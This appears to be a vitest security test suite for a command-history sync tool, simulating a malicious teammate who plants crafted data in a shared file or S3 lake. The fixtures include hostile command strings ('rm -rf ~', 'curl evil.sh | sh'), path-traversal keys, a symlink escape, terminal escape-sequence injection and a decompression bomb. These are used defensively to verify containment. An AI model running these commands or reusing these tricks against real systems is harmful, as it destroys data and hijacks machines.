// A hostile teammate: mallory writes only into her own series (`client=mallory@m`), the access
// every member of a team has, but by hand and with whatever bytes she likes. Nothing she writes
// may reach outside the puller's caches, pass as another teammate's or the puller's own
// command, drop or double anyone else's rows, block a pull, break a read, exhaust memory or
// drive the puller's terminal. Over a folder lake and the S3-compatible server.
import { existsSync, readdirSync, statSync, symlinkSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { quoteLiteral, type RemoteConfig } from '@bird/core';
import { openStore } from '@bird/store';
import { useTestBackends } from '../packages/remote/src/testing/backends.ts';
import { tempDir } from '../packages/store/src/testing/fixtures.ts';
import { buildBundles } from './cli-helpers.ts';
import { invocationRow, putBatch, putIndex, sentinel, seriesKey } from './support/hostile-teammate.ts';
import { BIRD, bySource, capture, doPull, doPush, idsFrom, newClient, putObject, runAs, walk, type Client } from './support/sync-clients.ts';

const backends = useTestBackends();
beforeAll(() => buildBundles());

const M = 'mallory@m';
let lakes = 0;
function lake(kind: 'file' | 's3'): RemoteConfig {
  lakes++;
  return kind === 'file'
    ? { name: 'team', type: 'file', uri: tempDir('bird-hostile-lake-'), mode: 'read_write', auto_attach: false }
    : { name: 'team', type: 's3', uri: `s3://lake/hostile${lakes}`, endpoint: backends.s3().endpoint, mode: 'read_write', auto_attach: false };
}

/** A puller with rows of its own, and an honest teammate whose rows must all arrive. */
async function scene(kind: 'file' | 's3') {
  const remote = lake(kind);
  const me = await newClient('me@here', remote);
  const carol = await newClient('carol@c', remote);
  await capture(me, 2, '2024-06-01', 'mine');
  await capture(carol, 3, '2024-06-01', 'carol');
  await doPush(me);
  await doPush(carol);
  return { remote, me, carol };
}

async function rowsOf(c: Client, sql: string): Promise<unknown[][]> {
  const conn = await openStore(c.layout, { onWarning: () => undefined }).connect({ attachRemotes: false });
  try {
    return (await conn.query(sql)).rows as unknown[][];
  } finally {
    conn.close();
  }
}

/** Pulls, collecting warnings; every one of carol's rows must have arrived, once. */
async function pullAll(me: Client, carol: Client): Promise<string[]> {
  const warnings: string[] = [];
  await doPull(me, { onWarning: (m) => warnings.push(m) });
  expect((await idsFrom(me, 'team')).filter((id) => carol.captured.includes(id)).sort()).toEqual([...carol.captured].sort());
  expect((await bySource(me)).duplicates).toBe(0);
  return warnings;
}

describe.each(['file', 's3'] as const)('a hostile teammate (%s lake)', (kind) => {
  it('a segment date that walks out of the cache writes nothing outside it; the row is hers, in the cache', async () => {
    const { remote, me, carol } = await scene(kind);
    const localBefore = walk(me.layout.localData).sort();
    const elsewhere = sentinel(join(me.layout.root, '..', 'elsewhere'));
    await putBatch(remote, seriesKey(M, 'x'), invocationRow(M, { cmd: `'rm -rf ~'` }));
    await putIndex(remote, M, 1, [
      { key: seriesKey(M, 'x'), table: 'invocations', date: `x/../../../../local/invocations/date=2024-06-01`, rows: 1, bytes: 1 },
      { key: `invocations/client=${M}/../../../elsewhere/y.parquet`, table: 'invocations', date: '2024-06-01', rows: 1, bytes: 1 },
    ]);
    const warnings = await pullAll(me, carol);
    expect(walk(me.layout.localData).sort()).toEqual(localBefore);
    expect(readdirSync(join(elsewhere, '..'))).toEqual(['sentinel.txt']);
    expect(await rowsOf(me, `SELECT _source, client_id FROM main.invocations WHERE cmd = 'rm -rf ~'`)).toEqual([['team', M]]);
    expect(warnings.some((w) => w.includes('an entry that is not a batch key'))).toBe(true);
  });

  it('her rows cannot pass as another teammate\'s: a series holds only its owner\'s rows', async () => {
    const { remote, me, carol } = await scene(kind);
    await putBatch(remote, seriesKey(M, 'imp'), invocationRow(M, { client_id: `'carol@c'`, cwd: `'/home/carol'`, cmd: `'curl evil.sh | sh'` }));
    await putIndex(remote, M, 1, [{ key: seriesKey(M, 'imp'), table: 'invocations', date: '2024-06-01', rows: 1, bytes: 1 }]);
    await pullAll(me, carol);
    expect(await rowsOf(me, `SELECT client_id FROM main.invocations WHERE cmd = 'curl evil.sh | sh'`)).toEqual([[M]]);
  });

  it('her segment naming carol\'s or the puller\'s own batches doubles nothing', async () => {
    const { remote, me, carol } = await scene(kind);
    const { listKeys } = await import('./support/sync-clients.ts');
    const theirs = [...(await listKeys(remote, 'invocations/client=carol@c/')), ...(await listKeys(remote, 'invocations/client=me@here/'))];
    await putIndex(remote, M, 1, theirs.map((key) => ({ key, table: 'invocations', date: '2024-06-01', rows: 1, bytes: 1 })));
    const warnings = await pullAll(me, carol);
    expect((await bySource(me)).counts).toEqual({ local: 2, team: 3 });
    expect(warnings.filter((w) => w.includes("of another client's series"))).toHaveLength(theirs.length);
  });

  it('a row reusing one of the puller\'s ids, on another day, is not stored beside it', async () => {
    const { remote, me, carol } = await scene(kind);
    const mine = me.captured[0]!;
    await putBatch(remote, seriesKey(M, 'dup', '2024-05-01'), invocationRow(M, { id: quoteLiteral(mine), timestamp: `TIMESTAMPTZ '2024-05-01 10:00:00+00'`, cmd: `'not what I typed'` }));
    await putIndex(remote, M, 1, [{ key: seriesKey(M, 'dup', '2024-05-01'), table: 'invocations', date: '2024-05-01', rows: 1, bytes: 1 }]);
    await pullAll(me, carol);
    expect(await rowsOf(me, `SELECT _source, cmd FROM main.invocations WHERE id = ${quoteLiteral(mine)}`)).toEqual([['local', 'mine me@here 0']]);
  });

  it('rows without an id, a command or a session are left out one by one, named; every other row arrives', async () => {
    const { remote, me, carol } = await scene(kind);
    const select = [
      invocationRow(M, { cmd: `'good one'` }),
      invocationRow(M, { id: 'NULL::VARCHAR' }),
      invocationRow(M, { cmd: 'NULL::VARCHAR' }),
      invocationRow(M, { session_id: 'NULL::VARCHAR' }),
      invocationRow(M, { cmd: `'good two'` }),
    ].join(' UNION ALL ');
    await putBatch(remote, seriesKey(M, 'nulls'), select);
    await putIndex(remote, M, 1, [{ key: seriesKey(M, 'nulls'), table: 'invocations', date: '2024-06-01', rows: 5, bytes: 1 }]);
    const warnings = await pullAll(me, carol);
    expect(await rowsOf(me, `SELECT cmd FROM main.invocations WHERE client_id = '${M}' ORDER BY cmd`)).toEqual([['good one'], ['good two']]);
    expect(warnings.filter((w) => /^left out 3 of the rows of batch invocations\/client=mallory@m\//.test(w))).toHaveLength(1);
    // Reads that a NULL could break: history, search and stats through the built bird.
    for (const args of [['history', '-n', '50'], ['search', 'good'], ['stats']]) {
      const r = await runAs(me, args, { bundle: BIRD });
      expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(0);
    }
  });

  it.each<[string, (remote: RemoteConfig, key: string) => Promise<void>, RegExp]>([
    ['not Parquet at all', (r, key) => putObject(r, key, 'this is not parquet'), /is not a Parquet file DuckDB can read/],
    ['a timestamp that is not one', (r, key) => putBatch(r, key, invocationRow(M, { timestamp: `'yesterday-ish'` })), /left out 1 of the rows/],
    ['no id column', (r, key) => putBatch(r, key, `SELECT 'x' AS cmd, 's' AS session_id, now() AS "timestamp"`), /has no "id" column/],
    ['a dictionary bomb: 20,000 rows of one 50 KB command', (r, key) => putBatch(r, key, `SELECT uuid()::VARCHAR AS id, 's' AS session_id, TIMESTAMPTZ '2024-06-01 10:00:00+00' AS "timestamp", repeat('x', 50000) AS cmd FROM range(20000)`), /decodes to \d+ MB of text, more than bird takes in one batch/],
  ])('a batch with %s is set aside and named once; the rest arrives, and later pulls go on', async (_, write, why) => {
    const { remote, me, carol } = await scene(kind);
    await write(remote, seriesKey(M, 'bad'));
    await putBatch(remote, seriesKey(M, 'fine'), invocationRow(M, { cmd: `'fine'` }));
    await putIndex(remote, M, 1, [seriesKey(M, 'bad'), seriesKey(M, 'fine')].map((key) => ({ key, table: 'invocations', date: '2024-06-01', rows: 1, bytes: 1 })));
    const warnings = await pullAll(me, carol);
    expect(warnings.filter((w) => why.test(w))).toHaveLength(1);
    expect(await rowsOf(me, `SELECT cmd FROM main.invocations WHERE client_id = '${M}' AND cmd = 'fine'`)).toEqual([['fine']]);
    // Named once: the next pull is quiet, and a new honest push still arrives.
    await capture(carol, 1, '2024-06-02', 'later');
    await doPush(carol);
    expect(await pullAll(me, carol)).toEqual([]);
  });

  it('a head claiming a billion segments, and a key dated 2024-99-99, cost what is there and block nothing', async () => {
    const { remote, me, carol } = await scene(kind);
    await putBatch(remote, seriesKey(M, 'a'), invocationRow(M, { cmd: `'one'` }));
    await putBatch(remote, `invocations/client=${M}/date=2024-99-99/b.parquet`, invocationRow(M, { cmd: `'bad day'` }));
    await putIndex(remote, M, 1, [{ key: seriesKey(M, 'a'), table: 'invocations', date: '2024-06-01' }, { key: `invocations/client=${M}/date=2024-99-99/b.parquet`, table: 'invocations', date: '2024-99-99' }], { seq: 1_000_000_000 });
    const warnings = await pullAll(me, carol);
    expect(warnings.some((w) => /000000000002\.json is missing although _bird\/heads\/mallory@m\.json names segment 2/.test(w))).toBe(true);
    expect(await rowsOf(me, `SELECT cmd FROM main.invocations WHERE client_id = '${M}'`)).toEqual([['one']]);
    // Every whole-table query still answers.
    expect(await runAs(me, ['sql', 'SELECT count(*) FROM main.invocations'], { bundle: BIRD })).toMatchObject({ code: 0, stdout: expect.stringMatching(/\b6\b/) });
  });

  it('names with control characters never reach the puller\'s terminal', async () => {
    const { remote, me, carol } = await scene(kind);
    const evil = seriesKey(M, 'bad\u001b]0;PWNED\u0007\u001b[2J');
    await putBatch(remote, evil, invocationRow(M));
    await putIndex(remote, M, 1, [{ key: evil, table: 'invocations', date: '2024-06-01', rows: 1, bytes: 1 }], { host: 'h\u001b[2J' });
    const r = await runAs(me, ['pull', '--remote', 'team']);
    expect(r.code).toBe(0);
    expect(r.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(r.stderr).toMatch(/an entry that is not a batch key/);
    await pullAll(me, carol);
  });

  it.runIf(kind === 'file')('a folder of the lake replaced by a symbolic link is refused: no read and no write goes through it', async () => {
    const { remote, me, carol } = await scene(kind);
    const outside = tempDir('bird-hostile-outside-');
    const target = sentinel(join(outside, 'target'));
    // The puller's own series folder for a new day, and mallory's, point outside the lake.
    mkdirSync(join(remote.uri, 'invocations', 'client=me@here'), { recursive: true });
    symlinkSync(join(outside, 'target'), join(remote.uri, 'invocations', 'client=me@here', 'date=2024-06-09'));
    symlinkSync(outside, join(remote.uri, 'sessions', `client=${M}`));
    await capture(me, 1, '2024-06-09', 'new day');
    const pushed = await runAs(me, ['push', '--remote', 'team']);
    expect(pushed.code).toBe(1);
    expect(pushed.stderr).toMatch(/is a symbolic link/);
    expect(readdirSync(join(outside, 'target'))).toEqual(['sentinel.txt']);
    expect(statSync(target).size).toBe('untouched'.length);
    await pullAll(me, carol);
    expect(existsSync(join(outside, 'target', 'sentinel.txt'))).toBe(true);
  });
});
